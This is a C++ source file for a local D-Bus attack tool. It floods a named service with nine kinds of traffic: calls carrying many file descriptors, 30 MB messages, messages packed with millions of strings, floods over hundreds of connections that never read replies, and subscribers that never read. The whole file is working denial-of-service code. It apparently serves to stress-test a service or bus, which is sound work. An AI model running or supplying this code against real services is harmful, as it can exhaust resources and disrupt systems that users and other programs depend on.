// Attacks that a local user can make on a service over the bus.
// usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD
//   descriptors  2,000 introspection calls, which keep the service busy, then introspection calls
//                with 16 file descriptors each; never reads a reply
//   signals      unicast signals to the service with 16 file descriptors each
//   large        calls of 30 MB each
//   texts        calls of 30 MB each with millions of texts
//   many-texts   calls of just under 1 MiB each with 130,000 texts, over 32 connections at once
//   many-calls   calls without a break over 250 connections at once; never reads a reply
//   calls        calls without a break on one connection; never reads a reply
//   pending      calls without a break on one connection; reads the replies
//   deaf         250 connections that subscribe to all signals and never read
// The service under attack may end, and the bus may end connections: neither is a failure of this
// program. It prints the number of sent messages, and of connections that the bus ended.
#include "bus.h"

#include <chrono>
#include <cstdio>
#include <fcntl.h>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <thread>
#include <vector>

namespace
{
constexpr int descriptorsPerMessage = 16;
/** The limit of unsent data in this process, in bytes. */
const long backlog = 1 << 20;

struct Attack {
    Method method;
    double end;
    long sent = 0;
    int connections = 0;

    bool isOver() const { return now() >= end; }
};

void appendDescriptors(const Message &message)
{
    static const int descriptor = open("/dev/null", O_RDONLY | O_CLOEXEC);
    for (int count = 0; count < descriptorsPerMessage; ++count)
        dbus_message_append_args(message.get(), DBUS_TYPE_UNIX_FD, &descriptor, DBUS_TYPE_INVALID);
}

Message newIntrospect(const Method &method)
{
    return newCall({method.service, method.path, DBUS_INTERFACE_INTROSPECTABLE, "Introspect"});
}

/** Runs @p body on one connection after the other until the time is over. */
void onConnections(Attack &attack, const std::function<void(Bus &)> &body)
{
    while (!attack.isOver()) {
        Bus bus;
        ++attack.connections;
        body(bus);
    }
}

/** Sends the messages of @p make until the time is over or the bus ends the connection. */
void sendOn(Bus &bus, Attack &attack, const std::function<Message()> &make)
{
    while (!attack.isOver() && bus.isConnected()) {
        bus.send(make());
        bus.drain(backlog, attack.end);
        ++attack.sent;
    }
}

void sendDescriptors(Attack &attack)
{
    onConnections(attack, [&attack](Bus &bus) {
        bus.stopReading();
        for (int count = 0; count < 2000; ++count)
            bus.send(newIntrospect(attack.method));
        bus.drain(0, attack.end);
        sendOn(bus, attack, [&attack] {
            Message message = newIntrospect(attack.method);
            dbus_message_set_no_reply(message.get(), TRUE);
            appendDescriptors(message);
            return message;
        });
    });
}

void sendSignals(Attack &attack)
{
    onConnections(attack, [&attack](Bus &bus) {
        sendOn(bus, attack, [&attack] {
            const Method &method = attack.method;
            Message message(dbus_message_new_signal(method.path.c_str(), method.interface.c_str(),
                                                    method.name.c_str()));
            dbus_message_set_destination(message.get(), method.service.c_str());
            appendDescriptors(message);
            return message;
        });
    });
}

Message newLargeCall(const Method &method)
{
    static const std::vector<unsigned char> bytes(30 << 20, 'x');
    Message message = newCall(method);
    const unsigned char *data = bytes.data();
    dbus_message_append_args(message.get(), DBUS_TYPE_ARRAY, DBUS_TYPE_BYTE, &data,
                             static_cast<int>(bytes.size()), DBUS_TYPE_INVALID);
    return message;
}

void sendLargeCalls(Attack &attack)
{
    onConnections(attack, [&attack](Bus &bus) {
        sendOn(bus, attack, [&attack] { return newLargeCall(attack.method); });
    });
}

/** A call with as many texts of one byte each as fit into @p bytes. */
Message newCallWithTexts(const Method &method, int bytes)
{
    const std::vector<const char *> texts(static_cast<std::size_t>(bytes) / 8, "x");
    Message message = newCall(method);
    const char *const *data = texts.data();
    dbus_message_append_args(message.get(), DBUS_TYPE_ARRAY, DBUS_TYPE_STRING, &data,
                             static_cast<int>(texts.size()), DBUS_TYPE_INVALID);
    return message;
}

void sendTexts(Attack &attack)
{
    const Message texts = newCallWithTexts(attack.method, 30 << 20);
    onConnections(attack, [&](Bus &bus) {
        sendOn(bus, attack, [&] { return Message(dbus_message_copy(texts.get())); });
    });
}

/**
 * Sends copies of @p message over @p count connections at once. Reads the replies if @p isReading
 * is true.
 */
void sendOnMany(Attack &attack, size_t count, const Message &message, bool isReading)
{
    std::vector<std::unique_ptr<Bus>> buses(count);
    for (size_t turn = 0; !attack.isOver(); turn = (turn + 1) % buses.size()) {
        std::unique_ptr<Bus> &bus = buses[turn];
        if (!bus || !bus->isConnected()) {
            bus = std::make_unique<Bus>();
            ++attack.connections;
            if (!isReading)
                bus->stopReading();
        }
        if (bus->pendingBytes() < backlog) {
            bus->send(Message(dbus_message_copy(message.get())));
            ++attack.sent;
        }
        // next() also writes queued messages.
        while (bus->next(0)) {
        }
    }
}

void sendManyTexts(Attack &attack)
{
    sendOnMany(attack, 32, newCallWithTexts(attack.method, 1000 << 10), true);
}

void sendManyUnread(Attack &attack)
{
    sendOnMany(attack, 250, newIntrospect(attack.method), false);
}

void sendUnread(Attack &attack)
{
    onConnections(attack, [&attack](Bus &bus) {
        bus.stopReading();
        sendOn(bus, attack, [&attack] { return newIntrospect(attack.method); });
    });
}

void sendRead(Attack &attack)
{
    onConnections(attack, [&attack](Bus &bus) {
        while (!attack.isOver() && bus.isConnected()) {
            bus.send(newCall(attack.method));
            bus.drain(backlog, attack.end);
            ++attack.sent;
            while (bus.next(0)) {
            }
        }
    });
}

void subscribeDeaf(Attack &attack)
{
    std::vector<std::unique_ptr<Bus>> buses;
    while (!attack.isOver() && buses.size() < 250) {
        buses.push_back(std::make_unique<Bus>());
        ++attack.connections;
        Message rule =
            newCall({DBUS_SERVICE_DBUS, DBUS_PATH_DBUS, DBUS_INTERFACE_DBUS, "AddMatch"});
        const char *text = "type='signal'";
        dbus_message_append_args(rule.get(), DBUS_TYPE_STRING, &text, DBUS_TYPE_INVALID);
        buses.back()->send(rule);
        buses.back()->drain(0, attack.end);
        buses.back()->stopReading();
        ++attack.sent;
    }
    while (!attack.isOver())
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
}
} // namespace

int main(int argc, char *argv[])
{
    const std::map<std::string, void (*)(Attack &)> kinds = {
        {"descriptors", sendDescriptors},
        {"signals", sendSignals},
        {"large", sendLargeCalls},
        {"texts", sendTexts},
        {"many-texts", sendManyTexts},
        {"many-calls", sendManyUnread},
        {"calls", sendUnread},
        {"pending", sendRead},
        {"deaf", subscribeDeaf},
    };
    if (argc != 7 || kinds.count(argv[1]) == 0)
        fail("usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD");
    Attack attack = {{argv[3], argv[4], argv[5], argv[6]}, now() + readSeconds(argv[2])};
    kinds.at(argv[1])(attack);
    std::printf("sent %ld over %d connections\n", attack.sent, attack.connections);
}
